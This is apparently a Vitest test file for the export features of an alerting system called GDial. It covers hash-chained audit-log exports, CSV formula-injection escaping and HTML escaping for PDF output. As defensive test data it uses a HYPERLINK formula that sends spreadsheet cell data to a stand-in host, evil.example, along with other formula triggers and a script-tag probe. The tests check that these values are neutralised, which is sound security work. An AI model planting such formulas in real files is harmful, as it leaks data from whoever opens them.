import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { listAuditEntries, recordAudit } from '../audit/audit-log';
import { verifyAuditChain } from '../audit/audit-verify';
import type { Store } from '../db/store';
import { testBackends, type OpenedTestStore } from '../test-support/backends';
import { seedLedger } from '../test-support/report-ledger';
import { exportReport, PDF_MAX_LOG_ROWS, sha256Hex, type ExportDeps } from './export';
import type { PdfPort } from './pdf-port';

const NOW = Date.parse('2026-11-26T09:30:00.000Z');
const ADMIN = { id: 1, name: 'admin' };
const baseDeps: ExportDeps = { pdf: null, now: () => NOW, timeZone: 'Europe/Stockholm', onSimulator: () => true };
const decode = (file: { contentBase64: string }) => Buffer.from(file.contentBase64, 'base64');

describe.each(testBackends())('the audit trail export on $name', (backend) => {
  let opened: OpenedTestStore;
  let store: Store;
  const deps = baseDeps;

  beforeEach(async () => {
    opened = await backend.open();
    store = opened.store;
  });
  afterEach(() => opened.close());

  const head = async () =>
    JSON.parse((await store.get<{ value: string }>(sql`SELECT value AS "value" FROM app_meta WHERE key = 'audit.head'`))!.value) as { id: number; hash: string };

  function someHistory() {
    return store.unit(async (tx) => {
      await recordAudit(tx, ADMIN, { action: 'auth.login' });
      await recordAudit(tx, ADMIN, { action: 'contacts.create', target: { type: 'contact', id: 7 }, details: { name: '=1+1' } });
      await recordAudit(tx, { id: 2, name: 'operatör' }, { action: 'alerts.launch', target: { type: 'alert', id: 1 }, details: { recipients: 12, title: 'Brand i Åby' } });
    });
  }

    it('comes with a manifest whose hash, rows and head match the data file and the chain', async () => {
      await someHistory();
      const before = await head();
      const { files } = await exportReport(store, { kind: 'audit_log', format: 'csv' }, ADMIN, deps);
      expect(files.map((f) => f.fileName)).toEqual(['gdial-granskningslogg-2026-11-26.csv', 'gdial-granskningslogg-2026-11-26.csv.manifest.json']);
      const [data, manifestFile] = files;
      expect(data!.sha256).toBe(sha256Hex(decode(data!)));
      expect(manifestFile!.sha256).toBe(sha256Hex(decode(manifestFile!)));
      const manifest = JSON.parse(decode(manifestFile!).toString('utf8'));
      expect(manifest).toEqual({
        file: data!.fileName,
        sha256: sha256Hex(decode(data!)),
        rows: 3,
        firstId: 1,
        lastId: 3,
        headHash: before.hash,
        headId: 3,
        generatedAt: new Date(NOW).toISOString(),
      });

      const [header, ...rows] = parse(decode(data!).toString('utf8'), { bom: true }) as string[][];
      expect(header).toEqual(['Id', 'Tid', 'Användar-id', 'Användare', 'Händelse', 'Händelsekod', 'Objekttyp', 'Objekt-id', 'Detaljer', 'Föregående hash', 'Hash']);
      expect(rows.map((r) => r[4])).toEqual(['Inloggning', 'Kontakt skapad', 'Larm startat']);
      expect(rows.map((r) => r[5])).toEqual(['auth.login', 'contacts.create', 'alerts.launch']);
      expect(rows.at(-1)![10]).toBe(before.hash);
      expect(rows[0]![1]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$/);
      expect(JSON.parse(rows[2]![8]!)).toEqual({ recipients: 12, title: 'Brand i Åby' });

      // The export is itself the next link of the chain, naming the file's hash and the head it saw.
      const [recorded] = await listAuditEntries(store, { limit: 1 });
      expect(recorded).toMatchObject({
        id: 4,
        actorName: 'admin',
        action: 'reports.export',
        targetType: 'audit_log',
        details: { kind: 'audit_log', format: 'csv', sha256: data!.sha256, rows: 3, headHash: before.hash, manifestSha256: manifestFile!.sha256 },
      });
      expect((await store.get<{ prevHash: string }>(sql`SELECT prev_hash AS "prevHash" FROM audit_log WHERE id = 4`))!.prevHash).toBe(manifest.headHash);
      expect(await verifyAuditChain(store)).toMatchObject({ intact: true, checked: 4 });
    });

    it('as JSON: every entry with its hashes, so the chain can be checked outside GDial', async () => {
      await someHistory();
      const { files } = await exportReport(store, { kind: 'audit_log', format: 'json' }, ADMIN, deps);
      const entries = JSON.parse(decode(files[0]!).toString('utf8'));
      expect(entries.map((e: { id: number }) => e.id)).toEqual([1, 2, 3]);
      expect(entries[1]).toMatchObject({ action: 'contacts.create', targetType: 'contact', targetId: '7', details: { name: '=1+1' } });
      expect(entries[1].prevHash).toBe(entries[0].hash);
      const manifest = JSON.parse(decode(files[1]!).toString('utf8'));
      expect(manifest).toMatchObject({ file: 'gdial-granskningslogg-2026-11-26.json', sha256: files[0]!.sha256, headHash: entries[2].hash });
    });

    it('of an empty trail says so', async () => {
      const { files } = await exportReport(store, { kind: 'audit_log', format: 'json' }, ADMIN, deps);
      expect(JSON.parse(decode(files[1]!).toString('utf8'))).toMatchObject({ rows: 0, firstId: null, lastId: null, headHash: null });
    });
});

describe.each(testBackends())('report and log exports on $name', (backend) => {
  let opened: OpenedTestStore;
  let store: Store;
  const deps = baseDeps;

  beforeEach(async () => {
    opened = await backend.open();
    store = opened.store;
  });
  afterEach(() => opened.close());

  describe('CSV formula injection', () => {
    it('never lets a name, a title or a reason become a formula in a spreadsheet', async () => {
      const evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")';
      const { alertId } = await seedLedger(store, { title: '@SUM(A1:A9)', createdAt: NOW - 60_000, startedAt: NOW - 50_000 }, [
        { name: evil, state: 'unreached', attempts: [{ channel: 'voice', state: 'failed', queuedAt: NOW - 50_000, errorMessage: '-2+3' }] },
        { name: '+46701234567', state: 'confirmed', confirmedAt: NOW - 40_000, confirmedVia: 'sms', attempts: [{ channel: 'sms', state: 'completed', queuedAt: NOW - 50_000, finishedAt: NOW - 45_000 }] },
      ]);
      const report = (await exportReport(store, { kind: 'alert_report', alertId, format: 'csv' }, ADMIN, deps)).files[0]!;
      const text = decode(report).toString('utf8');
      const table = parse(text.slice(1).split('\r\n\r\n')[1]!) as string[][];
      expect(table[1]![0]).toBe(`'${evil}`);
      expect(table[2]![0]).toBe(`'+46701234567`);
      expect(table[1]![8]).toMatch(/^Samtal /);
      const summary = Object.fromEntries(parse(text.slice(1).split('\r\n\r\n')[0]!, { relax_column_count: true }) as string[][]);
      expect(summary['Rubrik']).toBe("'@SUM(A1:A9)");
      // Not one cell in the file starts with a trigger character.
      for (const row of parse(text, { bom: true, relax_column_count: true }) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

      const log = decode((await exportReport(store, { kind: 'call_log', query: {}, format: 'csv' }, ADMIN, deps)).files[0]!).toString('utf8');
      const [, row] = parse(log, { bom: true }) as string[][];
      expect(row![2]).toBe("'@SUM(A1:A9)");
      expect(row![4]).toBe(`'${evil}`);
      // The carrier's raw note never reaches the file: the reason is the vocabulary's word for it.
      expect(row!.at(-1)).toBe('Misslyckades');
      for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });

  describe('PDF exports', () => {
    /** A renderer that keeps the HTML it was given: what Chromium or Electron would print. */
    const capture = () => {
      const seen: string[] = [];
      const port: PdfPort = { render: async (html) => (seen.push(html), Buffer.from('%PDF-1.7 test')) };
      return { seen, port };
    };

    it('hand a self-contained, accessible Swedish document to the renderer, escaping what people typed', async () => {
      const { alertId } = await seedLedger(store, { title: 'Brand <script>alert(1)</script>', drill: false, createdAt: NOW - 60_000 }, [
        { name: 'Åsa "Ö" Öberg & co', state: 'pending', attempts: [] },
      ]);
      const { seen, port } = capture();
      const { files } = await exportReport(store, { kind: 'alert_report', alertId, format: 'pdf' }, ADMIN, { ...deps, pdf: port });
      expect(files[0]).toMatchObject({ fileName: `gdial-larm-${alertId}-rapport.pdf`, mimeType: 'application/pdf', sha256: sha256Hex(Buffer.from('%PDF-1.7 test')) });
      const html = seen[0]!;
      expect(html).toMatch(/^<!doctype html>\s*<html lang="sv">/);
      expect(html).toContain('<title>GDial – Larmrapport: Brand &lt;script&gt;alert(1)&lt;/script&gt;</title>');
      expect(html).not.toContain('<script');
      expect(html).toContain('Åsa &quot;Ö&quot; Öberg &amp; co');
      expect(html).toContain("Content-Security-Policy\" content=\"default-src 'none'");
      expect(html).not.toMatch(/(src|href)=|url\(|@import/);
      expect(html).toContain('<th scope="col">Namn</th>');
      expect(html).toContain('SKARPT LARM');
      expect(html).toContain('Genererad <time datetime="2026-11-26T09:30:00.000Z">2026-11-26 10:30:00 CET</time>');
      expect((await listAuditEntries(store, { limit: 1 }))[0]).toMatchObject({ details: { kind: 'alert_report', format: 'pdf', sha256: files[0]!.sha256, rows: 1, alertId } });
    });

    it(`refuse a log longer than ${PDF_MAX_LOG_ROWS} rows, pointing to CSV, and audit nothing`, async () => {
      await seedLedger(store, { title: 'Stor', createdAt: NOW }, [
        { name: 'Många', attempts: Array.from({ length: PDF_MAX_LOG_ROWS + 1 }, (_, i) => ({ channel: 'sms' as const, state: 'completed' as const, queuedAt: NOW + i })) },
      ]);
      const { port, seen } = capture();
      await expect(exportReport(store, { kind: 'sms_log', query: {}, format: 'pdf' }, ADMIN, { ...deps, pdf: port })).rejects.toMatchObject({
        kind: 'validation',
        code: 'reports.too_many_rows_for_pdf',
        message: expect.stringContaining('CSV'),
      });
      expect(seen).toEqual([]);
      expect(await listAuditEntries(store, { limit: 10 })).toEqual([]);
    });

    it('audit nothing when the renderer fails', async () => {
      const { alertId } = await seedLedger(store, { title: 'X', createdAt: NOW }, [{ name: 'A', attempts: [] }]);
      const failing: PdfPort = { render: () => Promise.reject(new Error('renderer crashed')) };
      await expect(exportReport(store, { kind: 'alert_report', alertId, format: 'pdf' }, ADMIN, { ...deps, pdf: failing })).rejects.toThrow('renderer crashed');
      expect(await listAuditEntries(store, { limit: 10 })).toEqual([]);
    });
  });

  describe('the alert report export', () => {
    it('of an alert that does not exist is not_found and audits nothing', async () => {
      await expect(exportReport(store, { kind: 'alert_report', alertId: 404, format: 'json' }, ADMIN, deps)).rejects.toMatchObject({ kind: 'not_found' });
      expect(await listAuditEntries(store, { limit: 10 })).toEqual([]);
    });
  });
});
